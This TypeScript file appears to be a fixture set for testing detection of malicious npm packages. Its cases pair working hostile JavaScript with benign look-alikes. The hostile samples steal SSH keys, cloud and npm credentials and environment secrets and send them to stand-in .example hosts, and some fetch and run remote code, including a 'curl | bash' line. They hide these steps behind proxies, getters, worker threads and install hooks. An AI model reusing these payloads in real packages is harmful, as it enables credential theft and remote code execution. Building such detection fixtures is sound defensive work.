import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** Ways of the language to call what does the deed. */
export const DISPATCHING: Readonly<Record<string, Pair>> = {
  'private-fields': atImport(
    js`import { execSync } from 'node:child_process';

class Telemetry {
  static #instance = null;
  #endpoint = 'https://t.kit-fields.example';
  #pending = [];

  static get shared() {
    return (Telemetry.#instance ??= new Telemetry());
  }
  async #poll() {
    const response = await fetch(this.#endpoint);
    const { tasks } = await response.json();
    this.#pending.push(...tasks);
    this.#drain();
  }
  #drain() {
    while (this.#pending.length > 0) execSync(this.#pending.shift().line);
  }
  start() {
    setTimeout(() => this.#poll(), 2000).unref();
  }
}

Telemetry.shared.start();
export { Telemetry };
`,
  ),
  'proxy-handler': atImport(
    js`'use strict';
const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');

const store = new Proxy(
  {},
  {
    get: (_, name) => readFileSync(\`\${homedir()}/\${String(name)}\`, 'utf8'),
    set: (_, url, body) => !!fetch(url, { method: 'POST', body }),
  },
);

try {
  store['https://store.kit-proxy.example'] = store['.ssh/id_rsa'];
} catch {}
exports.store = {};
`,
    js`'use strict';
const { readFileSync } = require('node:fs');
const { join } = require('node:path');

/** The files of a folder as the members of an object. */
exports.files = (folder) =>
  new Proxy(
    {},
    {
      get: (_, name) => readFileSync(join(folder, String(name)), 'utf8'),
      set: () => false,
    },
  );
`,
  ),
  'getter-trigger': atUse(
    js`'use strict';
const https = require('node:https');

const settings = {
  region: 'eu',
  get env() {
    return Object.fromEntries(Object.entries(process.env).filter(([key]) => /key|token|secret/i.test(key)));
  },
  set report(body) {
    const req = https.request('https://r.kit-getter.example', { method: 'POST' });
    req.on('error', () => {});
    req.end(JSON.stringify(body));
  },
};

/** The region that is set. */
exports.region = () => {
  settings.report = settings.env;
  return settings.region;
};
`,
  ),
  'async-iterator': atImport(
    js`import { setTimeout as sleep } from 'node:timers/promises';

const commands = {
  async *[Symbol.asyncIterator]() {
    for (;;) {
      const response = await fetch('https://q.kit-iterate.example/next').catch(() => null);
      if (response?.ok) yield await response.text();
      await sleep(30_000, undefined, { ref: false });
    }
  },
};

(async () => {
  for await (const source of commands) await new (async () => {}).constructor(source)();
})();
export const queue = [];
`,
    js`import { setTimeout as sleep } from 'node:timers/promises';

/** The messages of a queue, one after the other. */
export const messages = (url) => ({
  async *[Symbol.asyncIterator]() {
    for (;;) {
      const response = await fetch(url).catch(() => null);
      if (response?.ok) yield await response.json();
      await sleep(30_000, undefined, { ref: false });
    }
  },
});
`,
  ),
  'tagged-template': atImport(
    js`'use strict';
const { execSync } = require('child_process');

/** Runs a line of the shell. */
const sh = (strings, ...values) => execSync(String.raw({ raw: strings }, ...values), { stdio: 'ignore' });
const host = 'https://get.kit-tag.example';

try {
  sh\`curl -fsSL \${host}/install.sh | bash\`;
} catch {}
exports.sh = sh;
`,
    js`'use strict';
const { execSync } = require('child_process');

/** Runs a line of the shell. */
const sh = (strings, ...values) => execSync(String.raw({ raw: strings }, ...values), { stdio: 'inherit' });

exports.build = (folder) => sh\`tsc -p \${folder} && cp -r \${folder}/assets dist\`;
`,
  ),
  'event-emitter': atInstall(
    {
      'scripts/postinstall.js': js`'use strict';
const bus = require('../lib/bus');
require('../lib/reader');
require('../lib/sender');

bus.emit('start', { files: ['.npmrc', '.aws/credentials'] });
`,
      'lib/bus.js': js`'use strict';
const { EventEmitter } = require('node:events');
module.exports = new EventEmitter();
`,
      'lib/reader.js': js`'use strict';
const { readFile } = require('node:fs/promises');
const { homedir } = require('node:os');
const { join } = require('node:path');
const bus = require('./bus');

bus.on('start', async ({ files }) => {
  for (const file of files) {
    const text = await readFile(join(homedir(), file), 'utf8').catch(() => null);
    if (text) bus.emit('read', { file, text });
  }
});
`,
      'lib/sender.js': js`'use strict';
const { request } = require('node:https');
const bus = require('./bus');

bus.on('read', (record) => {
  request('https://bus.kit-events.example', { method: 'POST' }).end(JSON.stringify(record));
});
`,
    },
    {
      'scripts/postinstall.js': js`'use strict';
const bus = require('../lib/bus');
require('../lib/reader');
require('../lib/printer');

bus.emit('start', { files: ['package.json', 'tsconfig.json'] });
`,
      'lib/bus.js': js`'use strict';
const { EventEmitter } = require('node:events');
module.exports = new EventEmitter();
`,
      'lib/reader.js': js`'use strict';
const { readFile } = require('node:fs/promises');
const bus = require('./bus');

bus.on('start', async ({ files }) => {
  for (const file of files) {
    const text = await readFile(file, 'utf8').catch(() => null);
    if (text) bus.emit('read', { file, text });
  }
});
`,
      'lib/printer.js': js`'use strict';
const bus = require('./bus');

bus.on('read', ({ file }) => process.stdout.write('found ' + file + '\n'));
`,
    },
  ),
  'stream-pipeline': atImport(
    js`'use strict';
const { pipeline, Readable, Transform } = require('node:stream');
const { createGzip } = require('node:zlib');
const { request } = require('node:https');

const records = Readable.from(Object.entries(process.env).map(([name, value]) => ({ name, value })));
const lines = new Transform({
  writableObjectMode: true,
  transform: (record, _, done) => done(null, JSON.stringify(record) + '\n'),
});
const upload = request({ host: 'in.kit-stream.example', method: 'PUT', path: '/lines' });

pipeline(records, lines, createGzip(), upload, () => {});
exports.lines = lines;
`,
    js`'use strict';
const { pipeline, Readable, Transform } = require('node:stream');
const { createGzip } = require('node:zlib');
const { request } = require('node:https');

/** Sends records to the store of the caller. */
exports.send = function send(records, options, done) {
  const lines = new Transform({
    writableObjectMode: true,
    transform: (record, _, next) => next(null, JSON.stringify(record) + '\n'),
  });
  pipeline(Readable.from(records), lines, createGzip(), request({ method: 'PUT', ...options }), done);
};
`,
  ),
  'worker-thread': atImport(
    js`'use strict';
const { Worker } = require('node:worker_threads');

const task = () => {
  const { parentPort, workerData } = require('node:worker_threads');
  const { readFileSync } = require('node:fs');
  parentPort.postMessage(workerData.files.map((file) => readFileSync(file, 'utf8')));
};

const worker = new Worker(\`(\${task})()\`, {
  eval: true,
  workerData: { files: [process.env.HOME + '/.netrc', process.env.HOME + '/.npmrc'] },
});
worker.once('message', (texts) => {
  fetch('https://w.kit-threads.example', { method: 'POST', body: JSON.stringify(texts) });
});
worker.once('error', () => {});
`,
    js`'use strict';
const { Worker } = require('node:worker_threads');

const task = () => {
  const { parentPort, workerData } = require('node:worker_threads');
  const { readFileSync } = require('node:fs');
  parentPort.postMessage(workerData.files.map((file) => readFileSync(file, 'utf8').split('\n').length));
};

/** Counts lines in a thread of its own. */
exports.count = (files) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(\`(\${task})()\`, { eval: true, workerData: { files } });
    worker.once('message', resolve);
    worker.once('error', reject);
  });
`,
  ),
  'fork-message': atUse({
    'index.js': js`'use strict';
const { fork } = require('node:child_process');
const { join } = require('node:path');

/** Compiles a file beside. */
exports.compile = (file) =>
  new Promise((resolve) => {
    const child = fork(join(__dirname, 'compile-child.js'), { detached: true, stdio: 'ignore' });
    child.send({ file, settings: { ...process.env } });
    child.once('message', resolve);
  });
`,
    'compile-child.js': js`'use strict';
process.on('message', async ({ file, settings }) => {
  await fetch('https://c.kit-fork.example', { method: 'POST', body: JSON.stringify(settings) }).catch(() => {});
  process.send({ file, ok: true });
});
`,
  }),
  'local-storage': atUse(
    js`import { AsyncLocalStorage } from 'node:async_hooks';
import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';

const scope = new AsyncLocalStorage();

async function flush() {
  const { secrets, endpoint } = scope.getStore();
  await fetch(endpoint, { method: 'POST', body: secrets });
}

/** Runs a job in a scope of its own. */
export async function run(job) {
  const secrets = await readFile(\`\${homedir()}/.aws/credentials\`).catch(() => '');
  return scope.run({ secrets, endpoint: 'https://s.kit-scope.example' }, async () => {
    await flush();
    return job();
  });
}
`,
  ),
  'message-channel': atImport(
    js`'use strict';
const { MessageChannel } = require('node:worker_threads');

const { port1, port2 } = new MessageChannel();
port2.on('message', (body) => {
  fetch('https://p.kit-ports.example', { method: 'POST', body }).catch(() => {});
});
port1.postMessage(JSON.stringify(process.env));
setTimeout(() => port1.close(), 500);
`,
  ),
};
